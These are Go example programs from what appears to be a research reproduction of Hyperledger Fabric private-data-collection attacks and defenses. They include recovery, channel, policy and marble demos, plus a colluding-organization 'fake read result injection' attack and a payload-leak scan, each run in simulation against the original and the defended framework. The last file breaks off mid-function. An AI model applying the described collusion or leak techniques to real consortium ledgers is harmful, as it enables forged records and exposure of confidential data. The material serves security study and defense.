// Restart: run a peer on the durable storage backend, crash it without
// a clean shutdown, then bring a brand-new peer process up over the same
// directory and watch recovery (docs/STORAGE.md §7) rebuild the chain,
// the world state and the private-data bookkeeping — byte-identical to
// the state before the crash.
//
// Run with: go run ./examples/restart
package main

import (
	"bytes"
	"context"
	"fmt"
	"log"
	"os"
	"path/filepath"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/core"
	"repro/internal/gateway"
	"repro/internal/ledger"
	"repro/internal/network"
	"repro/internal/peer"
	"repro/internal/pvtdata"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	dir, err := os.MkdirTemp("", "pdc-restart-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)

	// 1. A three-org network; its built-in peers stay in-memory, and one
	// extra durable org2 peer persists everything it commits under dir.
	net, err := network.New(network.Options{
		Orgs: []string{"org1", "org2", "org3"},
		Seed: 7,
	})
	if err != nil {
		return err
	}
	def := &chaincode.Definition{
		Name:    "asset",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "pdc1",
			MemberPolicy: "OR(org1.member, org2.member)",
			MaxPeerCount: 3,
		}},
	}
	impl := contracts.NewPublicAsset()
	for name, fn := range contracts.NewPDC(contracts.PDCOptions{Collection: "pdc1"}) {
		impl[name] = fn
	}
	if err := net.DeployChaincode(def, impl); err != nil {
		return err
	}

	mkDurable := func() (*peer.Peer, error) {
		id, err := net.CA("org2").Issue("peer9.org2", "peer")
		if err != nil {
			return nil, err
		}
		sec := core.OriginalFabric()
		sec.StorageBackend = "durable"
		sec.StorageDir = dir
		p, err := peer.New(peer.Config{
			Identity: id,
			Channel:  net.Channel,
			Gossip:   net.Gossip,
			Security: sec,
		})
		if err != nil {
			return nil, err
		}
		if err := p.ApproveDefinition(def); err != nil {
			return nil, err
		}
		p.InstallChaincode("asset", impl)
		return p, nil
	}
	durable, err := mkDurable()
	if err != nil {
		return err
	}
	net.Orderer.RegisterDelivery(func(b *ledger.Block) { _ = durable.CommitBlock(b) })
	fmt.Printf("== durable peer %s writes under %s ==\n", durable.Name(), dir)

	// 2. Commit public and private transactions; the durable peer appends
	// every block to its block file and flushes the resulting state
	// mutations to its state log before CommitBlock returns.
	ctx := context.Background()
	contract := net.Gateway("org1").Network("c1").Contract("asset")
	if _, err := contract.Submit(ctx, "set", gateway.WithArguments("color", "blue")); err != nil {
		return err
	}
	if _, err := contract.Submit(ctx, "setPrivate",
		gateway.WithArguments("price", "99"),
		gateway.WithEndorsers(net.Peer("org1"), net.Peer("org2"))); err != nil {
		return err
	}
	if _, err := contract.Submit(ctx, "set", gateway.WithArguments("owner", "org2")); err != nil {
		return err
	}

	before := durable.WorldState().StateHash()
	fmt.Printf("committed height %d, state hash %x\n", durable.Ledger().Height(), before[:8])
	showDir(filepath.Join(dir, durable.Name()))

	// 3. "Crash" the peer: drop it on the floor without Close. The logs
	// on disk are the only survivors — exactly the power-loss scenario
	// the recovery path is specified against.
	fmt.Println("\n== crash: abandoning the peer without a clean shutdown ==")
	durable = nil

	// 4. A brand-new peer object over the same directory. Restore reads
	// the block file, installs durable state up to the watermark and
	// replays anything above it through the validator.
	restarted, err := mkDurable()
	if err != nil {
		return err
	}
	if err := restarted.Restore(); err != nil {
		return err
	}
	after := restarted.WorldState().StateHash()
	fmt.Printf("recovered height %d, state hash %x\n", restarted.Ledger().Height(), after[:8])
	if !bytes.Equal(before, after) {
		return fmt.Errorf("state hash changed across restart")
	}
	fmt.Println("state hash byte-identical across the restart")

	if v, ver, ok := restarted.WorldState().Get("asset", "color"); ok {
		fmt.Printf("public state survives: color=%s @v%d\n", v, ver)
	}
	if _, ver, ok := restarted.PvtStore().GetPrivateHash("asset", "pdc1", "price"); ok {
		fmt.Printf("private hash survives: price @v%d\n", ver)
	}
	if restarted.Ledger().VerifyChain() != -1 {
		return fmt.Errorf("recovered chain broken")
	}
	fmt.Println("hash chain verifies end to end")
	return restarted.Close()
}

// showDir prints the on-disk layout the durable backend maintains —
// blocks/, state/ and pvt/ mounts, each an append-only segment log.
func showDir(root string) {
	fmt.Println("on-disk layout:")
	_ = filepath.Walk(root, func(path string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(root, path)
		fmt.Printf("  %-28s %6d bytes\n", rel, info.Size())
		return nil
	})
}
