// Marbles: the canonical Fabric private-data sample transliterated to
// this framework. Marble ownership is public; the agreed price lives in
// a separate collection with a short BlockToLive, so price details are
// purged from member stores after N blocks while the public record (and
// the price hashes) remain.
//
// Demonstrates: two collections with different membership, transient
// inputs, composite keys with prefix scans, and BlockToLive purging.
//
// Run with: go run ./examples/marbles
package main

import (
	"context"
	"fmt"
	"log"

	"repro/internal/chaincode"
	"repro/internal/gateway"
	"repro/internal/ledger"
	"repro/internal/network"
	"repro/internal/pvtdata"
)

const (
	collMarbles = "collectionMarbles"      // org1+org2: marble details
	collPrices  = "collectionMarblePrices" // org1 only: negotiated prices
)

func marblesContract() chaincode.Router {
	return chaincode.Router{
		// initMarble(name, color, owner) + transient "price".
		"initMarble": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if len(args) != 3 {
				return chaincode.ErrorResponse("initMarble: want (name, color, owner)")
			}
			key, err := chaincode.CreateCompositeKey("marble", args[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if err := stub.PutPrivateData(collMarbles, key, []byte(args[1]+"/"+args[2])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if price := stub.Transient("price"); price != nil {
				if err := stub.PutPrivateData(collPrices, key, price); err != nil {
					return chaincode.ErrorResponse(err.Error())
				}
			}
			return chaincode.SuccessResponse(nil)
		},
		// readMarble(name) — members only.
		"readMarble": func(stub chaincode.Stub) ledger.Response {
			key, err := chaincode.CreateCompositeKey("marble", stub.Args()[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			value, err := stub.GetPrivateData(collMarbles, key)
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if value == nil {
				return chaincode.ErrorResponse("marble not found")
			}
			return chaincode.SuccessResponse(value)
		},
		// readPrice(name) — price collection members only.
		"readPrice": func(stub chaincode.Stub) ledger.Response {
			key, err := chaincode.CreateCompositeKey("marble", stub.Args()[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			value, err := stub.GetPrivateData(collPrices, key)
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if value == nil {
				return chaincode.ErrorResponse("price not found (purged or never set)")
			}
			return chaincode.SuccessResponse(value)
		},
		// registerPublic(name) records public existence of the marble.
		"registerPublic": func(stub chaincode.Stub) ledger.Response {
			key, err := chaincode.CreateCompositeKey("marble", stub.Args()[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if err := stub.PutState(key, []byte("exists")); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
		// listPublic() scans the public marble registry.
		"listPublic": func(stub chaincode.Stub) ledger.Response {
			start, end, err := chaincode.CompositeKeyRange("marble")
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			kvs, err := stub.GetStateByRange(start, end)
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			out := ""
			for _, kv := range kvs {
				_, attrs, err := chaincode.SplitCompositeKey(kv.Key)
				if err != nil || len(attrs) == 0 {
					continue
				}
				out += attrs[0] + ";"
			}
			return chaincode.SuccessResponse([]byte(out))
		},
	}
}

func main() {
	net, err := network.New(network.Options{Orgs: []string{"org1", "org2", "org3"}, Seed: 13})
	if err != nil {
		log.Fatal(err)
	}
	def := &chaincode.Definition{
		Name:    "marbles",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{
			{
				Name:         collMarbles,
				MemberPolicy: "OR(org1.member, org2.member)",
				MaxPeerCount: 3,
			},
			{
				Name:         collPrices,
				MemberPolicy: "OR(org1.member)",
				MaxPeerCount: 3,
				// Prices are purged three blocks after commit.
				BlockToLive: 3,
			},
		},
	}
	if err := net.DeployChaincode(def, marblesContract()); err != nil {
		log.Fatal(err)
	}
	ctx := context.Background()
	contract := net.Gateway("org1").Network("c1").Contract("marbles")
	members := gateway.WithEndorsers(net.Peer("org1"), net.Peer("org2"))

	// Create a marble; the price enters through the transient map only.
	if _, err := contract.Submit(ctx, "initMarble",
		gateway.WithArguments("m1", "blue", "tom"),
		gateway.WithTransient(map[string][]byte{"price": []byte("99")}),
		members); err != nil {
		log.Fatal(err)
	}
	if _, err := contract.Submit(ctx, "registerPublic", gateway.WithArguments("m1")); err != nil {
		log.Fatal(err)
	}
	fmt.Println("marble m1 created (details org1+org2; price org1 only, BlockToLive=3)")

	details, err := contract.Evaluate(ctx, "readMarble",
		gateway.WithArguments("m1"), gateway.WithEndorsers(net.Peer("org2")))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("org2 reads details: %s\n", details)
	price, err := contract.Evaluate(ctx, "readPrice",
		gateway.WithArguments("m1"), gateway.WithEndorsers(net.Peer("org1")))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("org1 reads price:   %s\n", price)
	if _, err := contract.Evaluate(ctx, "readPrice",
		gateway.WithArguments("m1"), gateway.WithEndorsers(net.Peer("org2"))); err != nil {
		fmt.Println("org2 cannot read the price (not a collectionMarblePrices member)")
	}

	// Advance the chain past BlockToLive: the price is purged at org1.
	for i := 0; i < 4; i++ {
		if _, err := contract.Submit(ctx, "registerPublic",
			gateway.WithArguments(fmt.Sprintf("pad%d", i))); err != nil {
			log.Fatal(err)
		}
	}
	if _, err := contract.Evaluate(ctx, "readPrice",
		gateway.WithArguments("m1"), gateway.WithEndorsers(net.Peer("org1"))); err != nil {
		fmt.Println("after 4 more blocks, the price is purged even at org1 (BlockToLive)")
	}
	// The marble details (no BlockToLive) survive.
	if _, err := contract.Evaluate(ctx, "readMarble",
		gateway.WithArguments("m1"), gateway.WithEndorsers(net.Peer("org1"))); err == nil {
		fmt.Println("marble details persist (no BlockToLive on collectionMarbles)")
	}

	listing, err := contract.Evaluate(ctx, "listPublic",
		gateway.WithEndorsers(net.Peer("org3")))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("public registry visible to non-member org3: %s\n", listing)
}
