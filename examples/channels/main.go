// Channels: the paper's Fig. 1 topology — four organizations, two
// channels with separate ledgers, and a private data collection inside
// one channel. Channel isolation is the coarse privacy mechanism; PDC is
// the fine-grained one within a channel.
//
// Run with: go run ./examples/channels
package main

import (
	"context"
	"fmt"
	"log"

	"repro/internal/chaincode"
	"repro/internal/consortium"
	"repro/internal/contracts"
	"repro/internal/peer"
	"repro/internal/pvtdata"
	"repro/internal/service"
)

func main() {
	// Fig. 1: P1, P2, P4 join channel C1; P2 (and P3) join C2. P1 and
	// P4 share a PDC inside C1.
	c, err := consortium.New(consortium.Options{
		Orgs: []string{"org1", "org2", "org3", "org4"},
		Channels: map[string][]string{
			"c1": {"org1", "org2", "org4"},
			"c2": {"org2", "org3"},
		},
		Seed: 4,
	})
	if err != nil {
		log.Fatal(err)
	}

	// Chaincode S1 on C1 with PDC{org1, org4}; chaincode S2 on C2.
	c1 := c.Channel("c1")
	s1 := &chaincode.Definition{
		Name:    "s1",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "pdc",
			MemberPolicy: "OR(org1.member, org4.member)",
			MaxPeerCount: 3,
		}},
	}
	impl := contracts.NewPublicAsset()
	for name, fn := range contracts.NewPDC(contracts.PDCOptions{Collection: "pdc"}) {
		impl[name] = fn
	}
	if err := c1.DeployChaincode(s1, impl); err != nil {
		log.Fatal(err)
	}
	c2 := c.Channel("c2")
	if err := c2.DeployChaincode(&chaincode.Definition{Name: "s2", Version: "1.0"}, contracts.NewPublicAsset()); err != nil {
		log.Fatal(err)
	}

	// Transact on both channels.
	ctx := context.Background()
	if _, err := c1.Gateway("org1").Submit(ctx,
		service.NewInvoke("s1", "set", "ledger", "L1")); err != nil {
		log.Fatal(err)
	}
	if _, err := c2.Gateway("org2").Submit(ctx,
		service.NewInvoke("s2", "set", "ledger", "L2")); err != nil {
		log.Fatal(err)
	}
	// A PDC write inside C1, shared by org1 and org4 only.
	if _, err := c1.Gateway("org1").Submit(ctx,
		service.NewInvoke("s1", "setPrivate", "deal", "42").
			WithEndorsers(service.Names([]*peer.Peer{c1.Peer("org1"), c1.Peer("org4")})...)); err != nil {
		log.Fatal(err)
	}

	fmt.Println("channel C1 (org1, org2, org4) and C2 (org2, org3) built; S1 deployed on C1, S2 on C2")
	fmt.Println()
	fmt.Println("org2 participates in both channels and keeps one ledger per channel:")
	v1, _, _ := c1.Peer("org2").WorldState().Get("s1", "ledger")
	v2, _, _ := c2.Peer("org2").WorldState().Get("s2", "ledger")
	fmt.Printf("  on C1: ledger=%s (height %d)\n", v1, c1.Peer("org2").Ledger().Height())
	fmt.Printf("  on C2: ledger=%s (height %d)\n", v2, c2.Peer("org2").Ledger().Height())

	fmt.Println()
	fmt.Println("inside C1, the PDC splits further:")
	for _, org := range []string{"org1", "org2", "org4"} {
		p := c1.Peer(org)
		if v, _, ok := p.PvtStore().GetPrivate("s1", "pdc", "deal"); ok {
			fmt.Printf("  %s: deal=%s (PDC member)\n", p.Name(), v)
		} else {
			fmt.Printf("  %s: hash only (channel member, PDC non-member)\n", p.Name())
		}
	}
	fmt.Println()
	fmt.Println("org3 is outside C1 entirely: no peer, no ledger, no hashes — channel isolation")
}
