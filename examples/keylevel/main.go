// Keylevel: key-level ("state-based") endorsement policies — the
// mechanism implemented in Fabric's validator_keylevel.go, the source
// file the paper cites when analyzing endorsement-policy routing
// (§III-C). Per-key policies narrow who may update a specific asset,
// closing the same class of misuse the paper's write-injection attack
// exploits at the collection level.
//
// Run with: go run ./examples/keylevel
package main

import (
	"context"
	"fmt"
	"log"

	"repro/internal/chaincode"
	"repro/internal/ledger"
	"repro/internal/network"
	"repro/internal/peer"
	"repro/internal/service"
)

// assetContract manages assets whose owners can lock them to an owner-
// specific endorsement policy.
func assetContract() chaincode.Router {
	return chaincode.Router{
		"create": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args() // (asset, value)
			key, err := chaincode.CreateCompositeKey("asset", args[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if err := stub.PutState(key, []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
		"transfer": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args() // (asset, newValue)
			key, err := chaincode.CreateCompositeKey("asset", args[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if err := stub.PutState(key, []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
		"lock": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args() // (asset, policy)
			key, err := chaincode.CreateCompositeKey("asset", args[0])
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			if err := stub.SetStateValidationParameter(key, args[1]); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
		"list": func(stub chaincode.Stub) ledger.Response {
			start, end, err := chaincode.CompositeKeyRange("asset")
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			kvs, err := stub.GetStateByRange(start, end)
			if err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			out := ""
			for _, kv := range kvs {
				_, attrs, err := chaincode.SplitCompositeKey(kv.Key)
				if err != nil {
					continue
				}
				out += fmt.Sprintf("%s=%s;", attrs[0], kv.Value)
			}
			return chaincode.SuccessResponse([]byte(out))
		},
	}
}

func main() {
	net, err := network.New(network.Options{Orgs: []string{"org1", "org2", "org3"}, Seed: 5})
	if err != nil {
		log.Fatal(err)
	}
	def := &chaincode.Definition{Name: "assets", Version: "1.0"}
	if err := net.DeployChaincode(def, assetContract()); err != nil {
		log.Fatal(err)
	}
	gw := net.Gateway("org1")
	ctx := context.Background()

	// Create an asset under the default MAJORITY policy, then lock it so
	// only org1 AND org2 together can change it.
	if _, err := gw.Submit(ctx, service.NewInvoke("assets", "create", "bond-7", "1000")); err != nil {
		log.Fatal(err)
	}
	if _, err := gw.Submit(ctx, service.NewInvoke("assets", "lock",
		"bond-7", "AND(org1.peer, org2.peer)")); err != nil {
		log.Fatal(err)
	}
	fmt.Println("asset bond-7 created and locked to AND(org1.peer, org2.peer)")

	// org1+org2 can transfer it.
	res, err := gw.Submit(ctx, service.NewInvoke("assets", "transfer", "bond-7", "1100").
		WithEndorsers(service.Names([]*peer.Peer{net.Peer("org1"), net.Peer("org2")})...))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("transfer by org1+org2: %v\n", res.Code)

	// org1+org3 clears the chaincode-level MAJORITY, but not the
	// key-level policy — the update is invalidated.
	prop, err := gw.NewProposal("assets", "transfer", []string{"bond-7", "1"}, nil)
	if err != nil {
		log.Fatal(err)
	}
	tx, payload, err := gw.EndorseProposal(ctx, prop,
		service.AsEndorsers([]*peer.Peer{net.Peer("org1"), net.Peer("org3")}))
	if err != nil {
		log.Fatal(err)
	}
	out, err := gw.SubmitAssembled(ctx, tx, payload)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("transfer by org1+org3 (majority, but not the key policy): %v\n", out.Code)

	// The asset keeps its legitimate value; range scan over the
	// composite-key prefix shows the inventory.
	listing, err := gw.Evaluate(ctx, service.NewInvoke("assets", "list").
		WithEndorsers(net.Peer("org2").Name()))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("assets on ledger: %s\n", listing)
}
