// Supplychain: the canonical Fabric PDC motivating scenario — a
// distributor (org1) and a wholesaler (org2) negotiate prices privately
// on a channel they share with a retailer (org3), who must see that
// trades happen but not the negotiated prices.
//
// The example shows the right way to keep the price confidential (pass
// it through the transient map, return nothing in the payload) and the
// wrong way (the Listing 1/2 patterns), then lets the retailer try to
// learn the price from its own copy of the blockchain.
//
// Run with: go run ./examples/supplychain
package main

import (
	"context"
	"fmt"
	"log"

	"repro/internal/attacks"
	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/network"
	"repro/internal/peer"
	"repro/internal/pvtdata"
	"repro/internal/service"
)

func main() {
	net, err := network.New(network.Options{
		Orgs: []string{"distributor", "wholesaler", "retailer"},
		Seed: 7,
	})
	if err != nil {
		log.Fatal(err)
	}

	def := &chaincode.Definition{
		Name:    "trade",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "negotiations",
			MemberPolicy: "OR(distributor.member, wholesaler.member)",
			MaxPeerCount: 3,
			// Write-related PDC transactions must be endorsed by both
			// trading parties.
			EndorsementPolicy: "AND(distributor.peer, wholesaler.peer)",
		}},
	}
	impl := contracts.NewPublicAsset()
	for name, fn := range contracts.NewPDC(contracts.PDCOptions{Collection: "negotiations"}) {
		impl[name] = fn
	}
	if err := net.DeployChaincode(def, impl); err != nil {
		log.Fatal(err)
	}

	distributor := net.Gateway("distributor")
	ctx := context.Background()
	parties := []*peer.Peer{net.Peer("distributor"), net.Peer("wholesaler")}

	// The public part of the trade is visible to everyone, including
	// the retailer.
	if _, err := distributor.Submit(ctx, service.NewInvoke("trade",
		"set", "trade-1042", "distributor->wholesaler:widgets:5000units")); err != nil {
		log.Fatal(err)
	}
	fmt.Println("public trade record committed (visible to all orgs)")

	// The negotiated unit price goes into the PDC through the transient
	// map: it appears in no proposal args and no payload.
	if _, err := distributor.Submit(ctx, service.NewInvoke("trade",
		"setPrivateTransient", "trade-1042-price").
		WithTransient(map[string][]byte{"value": []byte("17")}).
		WithEndorsers(service.Names(parties)...)); err != nil {
		log.Fatal(err)
	}
	fmt.Println("private price committed via transient map (members only)")

	// The retailer scans its blockchain: the price is not recoverable.
	leaks := attacks.ExtractPDCPayloads(net.Peer("retailer"))
	fmt.Printf("retailer ledger scan after careful write: %d PDC payloads recoverable\n", len(leaks))

	// Now the careless pattern: an audited read (Listing 1) returns the
	// price through the payload — and the retailer sees it.
	res, err := distributor.Submit(ctx, service.NewInvoke("trade",
		"readPrivate", "trade-1042-price").
		WithEndorsers(service.Names(parties)...))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("audited read returned %q to the client\n", res.Payload)
	for _, leak := range attacks.ExtractPDCPayloads(net.Peer("retailer")) {
		fmt.Printf("LEAK: retailer recovered %q from its own blockchain (block %d, %s)\n",
			leak.Payload, leak.BlockNum, leak.Function)
	}

	// Both parties hold the original price; the retailer holds a hash.
	for _, org := range net.Orgs() {
		p := net.Peer(org)
		if v, _, ok := p.PvtStore().GetPrivate("trade", "negotiations", "trade-1042-price"); ok {
			fmt.Printf("  %s: price=%s\n", p.Name(), v)
		} else {
			fmt.Printf("  %s: hash only\n", p.Name())
		}
	}
}
