// Attackdemo: the paper's Fig. 5 experiment end to end — the fake read
// result injection — first against the original framework, then against
// the framework with defense Feature 1 enabled.
//
// org1 and org3 are malicious and collude: org3 is not a member of the
// PDC, yet both install a customized chaincode that obtains the key's
// version through GetPrivateDataHash (which works on every peer) and
// returns an agreed fake value in the payload. Under the default
// "MAJORITY Endorsement" policy, their two endorsements out of three
// organizations are enough, and the fabricated transaction is recorded
// VALID in every peer's blockchain.
//
// Run with: go run ./examples/attackdemo
package main

import (
	"fmt"
	"log"

	"repro/internal/attacks"
	"repro/internal/core"
)

func main() {
	fmt.Println("=== Fake read result injection (paper §V-A1, Fig. 5) ===")
	fmt.Println()
	fmt.Println("Setup: 3 orgs, PDC{org1,org2} holding k1=12, chaincode-level")
	fmt.Println("policy MAJORITY Endorsement, malicious org1+org3.")
	fmt.Println()

	// --- Original framework ---
	env, err := attacks.Setup(attacks.Scenario{Name: "original framework"})
	if err != nil {
		log.Fatal(err)
	}
	out := attacks.FakeReadInjection(env)
	fmt.Println("Original framework:")
	report(out)

	// The world state is intact — the blockchain is what lies.
	if v, ok := env.VictimValue(); ok {
		fmt.Printf("  victim org2 still stores the true value k1=%s;\n", v)
		fmt.Println("  the blockchain now contains a VALID read of k1 = 999.")
	}
	fmt.Println()

	// --- Defended framework ---
	env, err = attacks.Setup(attacks.Scenario{
		Name:         "defended framework",
		CollectionEP: "AND(org1.peer, org2.peer)",
		Security:     core.Feature1Only(),
	})
	if err != nil {
		log.Fatal(err)
	}
	out = attacks.FakeReadInjection(env)
	fmt.Println("With Feature 1 (collection-level policy check for PDC reads):")
	report(out)
	fmt.Println()
	fmt.Println("The forged transaction now fails the endorsement policy check:")
	fmt.Println("read-only PDC transactions are validated against the collection-")
	fmt.Println("level policy AND(org1, org2), which org3's endorsement cannot satisfy.")
}

func report(out attacks.Outcome) {
	verdict := "ATTACK FAILED"
	if out.Succeeded {
		verdict = "ATTACK SUCCEEDED"
	}
	fmt.Printf("  %s\n  validation code: %v\n  %s\n", verdict, out.Code, out.Detail)
}
