// Quickstart: build a three-organization Fabric network with a private
// data collection, write public and private data, and observe the PDC
// storage split — original tuples at member peers, hashes everywhere.
//
// Run with: go run ./examples/quickstart
package main

import (
	"context"
	"fmt"
	"log"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/gateway"
	"repro/internal/network"
	"repro/internal/pvtdata"
)

func main() {
	// 1. Build the network: three orgs, each with one peer and one
	// client, a Raft ordering service, and the default channel policy
	// "MAJORITY Endorsement".
	net, err := network.New(network.Options{
		Orgs: []string{"org1", "org2", "org3"},
		Seed: 2021,
	})
	if err != nil {
		log.Fatal(err)
	}

	// 2. Deploy a chaincode whose definition includes a private data
	// collection shared by org1 and org2 only.
	def := &chaincode.Definition{
		Name:    "asset",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "pdc1",
			MemberPolicy: "OR(org1.member, org2.member)",
			MaxPeerCount: 3,
		}},
	}
	impl := contracts.NewPublicAsset()
	for name, fn := range contracts.NewPDC(contracts.PDCOptions{Collection: "pdc1"}) {
		impl[name] = fn
	}
	if err := net.DeployChaincode(def, impl); err != nil {
		log.Fatal(err)
	}

	// 3. Connect through org1's Gateway and select the chaincode. Submit
	// endorses, orders, and then waits for the transaction's final
	// validation code to arrive over the commit peer's deliver stream.
	ctx := context.Background()
	contract := net.Gateway("org1").Network("c1").Contract("asset")

	// A public transaction, endorsed by all three organizations (the
	// gateway's default endorsement set).
	res, err := contract.Submit(ctx, "set", gateway.WithArguments("color", "blue"))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("public write committed: %v (block %d)\n", res.Code, res.BlockNum)

	// 4. A private write, endorsed by the PDC members only. The
	// transaction that lands in every ledger contains only hashes; the
	// original value travels to members via gossip.
	res, err = contract.Submit(ctx, "setPrivate",
		gateway.WithArguments("price", "99"),
		gateway.WithEndorsers(net.Peer("org1"), net.Peer("org2")))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("private write committed: %v (block %d)\n", res.Code, res.BlockNum)

	// 5. Observe the storage split.
	for _, org := range net.Orgs() {
		p := net.Peer(org)
		if v, ver, ok := p.PvtStore().GetPrivate("asset", "pdc1", "price"); ok {
			fmt.Printf("  %s holds the original: price=%s (version %d)\n", p.Name(), v, ver)
		} else if _, ver, ok := p.PvtStore().GetPrivateHash("asset", "pdc1", "price"); ok {
			fmt.Printf("  %s holds only the hash (version %d)\n", p.Name(), ver)
		}
	}

	// 6. A member reads the private value; a non-member cannot. Evaluate
	// queries one peer without creating a transaction.
	payload, err := contract.Evaluate(ctx, "readPrivate",
		gateway.WithArguments("price"), gateway.WithEndorsers(net.Peer("org2")))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("member read: price=%s\n", payload)
	if _, err := contract.Evaluate(ctx, "readPrivate",
		gateway.WithArguments("price"), gateway.WithEndorsers(net.Peer("org3"))); err != nil {
		fmt.Printf("non-member read rejected: %v\n", err)
	}
}
