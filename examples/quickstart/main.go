// Quickstart: build a three-organization Fabric network with a private
// data collection, write public and private data, and observe the PDC
// storage split — original tuples at member peers, hashes everywhere.
//
// Run with: go run ./examples/quickstart
package main

import (
	"fmt"
	"log"

	"repro/internal/chaincode"
	"repro/internal/contracts"
	"repro/internal/network"
	"repro/internal/peer"
	"repro/internal/pvtdata"
)

func main() {
	// 1. Build the network: three orgs, each with one peer and one
	// client, a Raft ordering service, and the default channel policy
	// "MAJORITY Endorsement".
	net, err := network.New(network.Options{
		Orgs: []string{"org1", "org2", "org3"},
		Seed: 2021,
	})
	if err != nil {
		log.Fatal(err)
	}

	// 2. Deploy a chaincode whose definition includes a private data
	// collection shared by org1 and org2 only.
	def := &chaincode.Definition{
		Name:    "asset",
		Version: "1.0",
		Collections: []pvtdata.CollectionConfig{{
			Name:         "pdc1",
			MemberPolicy: "OR(org1.member, org2.member)",
			MaxPeerCount: 3,
		}},
	}
	impl := contracts.NewPublicAsset()
	for name, fn := range contracts.NewPDC(contracts.PDCOptions{Collection: "pdc1"}) {
		impl[name] = fn
	}
	if err := net.DeployChaincode(def, impl); err != nil {
		log.Fatal(err)
	}

	client := net.Client("org1")
	members := []*peer.Peer{net.Peer("org1"), net.Peer("org2")}

	// 3. A public transaction, endorsed by all three organizations.
	res, err := client.SubmitTransaction(net.Peers(), "asset", "set", []string{"color", "blue"}, nil)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("public write committed: %v (block %d)\n", res.Code, res.BlockNum)

	// 4. A private write, endorsed by the PDC members. The transaction
	// that lands in every ledger contains only hashes; the original
	// value travels to members via gossip.
	res, err = client.SubmitTransaction(members, "asset", "setPrivate", []string{"price", "99"}, nil)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("private write committed: %v (block %d)\n", res.Code, res.BlockNum)

	// 5. Observe the storage split.
	for _, org := range net.Orgs() {
		p := net.Peer(org)
		if v, ver, ok := p.PvtStore().GetPrivate("asset", "pdc1", "price"); ok {
			fmt.Printf("  %s holds the original: price=%s (version %d)\n", p.Name(), v, ver)
		} else if _, ver, ok := p.PvtStore().GetPrivateHash("asset", "pdc1", "price"); ok {
			fmt.Printf("  %s holds only the hash (version %d)\n", p.Name(), ver)
		}
	}

	// 6. A member reads the private value; a non-member cannot.
	payload, err := client.EvaluateTransaction(net.Peer("org2"), "asset", "readPrivate", "price")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("member read: price=%s\n", payload)
	if _, err := client.EvaluateTransaction(net.Peer("org3"), "asset", "readPrivate", "price"); err != nil {
		fmt.Printf("non-member read rejected: %v\n", err)
	}
}
