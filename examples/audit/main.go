// Audit: the paper's §IV-B1 use case — a consortium wants PDC reads
// recorded on the ledger for auditing, so clients submit reads as
// transactions. The example shows the resulting leak on the original
// framework and how defense Feature 2 (the cryptographic solution of
// Fig. 4) preserves the audit trail while removing the plaintext from
// the blocks.
//
// Run with: go run ./examples/audit
package main

import (
	"context"
	"fmt"
	"log"

	"repro/internal/attacks"
	"repro/internal/core"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/peer"
	"repro/internal/service"
)

func main() {
	fmt.Println("=== Audited PDC reads and the payload leak (paper §IV-B1 / §V-B1) ===")

	run := func(label string, sec core.SecurityConfig) {
		env, err := attacks.Setup(attacks.Scenario{
			Name:           label,
			DisableForgers: true,
			Security:       sec,
		})
		if err != nil {
			log.Fatal(err)
		}
		gw := env.Net.Gateway("org2")
		members := []*peer.Peer{env.Net.Peer("org1"), env.Net.Peer("org2")}

		// The audited read: submitted as a transaction so every peer
		// records who read what, when.
		res, err := gw.Submit(context.Background(),
			service.NewInvoke(attacks.ChaincodeName, "readPrivate", attacks.TargetKey).
				WithEndorsers(service.Names(members)...))
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("\n%s\n", label)
